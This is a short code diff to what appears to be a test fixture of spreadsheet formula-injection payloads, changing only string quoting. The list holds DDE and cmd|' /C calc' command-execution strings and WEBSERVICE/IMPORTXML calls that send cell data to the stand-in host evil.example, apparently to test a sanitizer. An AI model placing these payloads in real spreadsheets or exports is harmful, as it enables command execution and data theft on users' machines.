@@ -8,9 +8,9 @@ _BODIES = (
     "SUM(A1:A9)",
     "cmd|' /C notepad'!'A1'",
     'IMPORTXML("https://evil.example","//a")',
-    "DDE(\"cmd\";\"/C calc\";\"x\")",
-    "WEBSERVICE(\"https://evil.example/\"&A1)",
-    "A1&\";\"&B1",
+    'DDE("cmd";"/C calc";"x")',
+    'WEBSERVICE("https://evil.example/"&A1)',
+    'A1&";"&B1',
     "A1,B1",
     "1\n2",
     "'quoted'",
@@ -20,7 +20,7 @@ _BODIES = (
     "-2+3+cmd|' /C calc'!D2",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "10+20+cmd|' /C calc'!A0;x",
-    "INDIRECT(\"A\"&1)",
+    'INDIRECT("A"&1)',
     " 1+1 ",
 )
 FORMULAS = tuple(head + body for head in _HEADS for body in _BODIES)
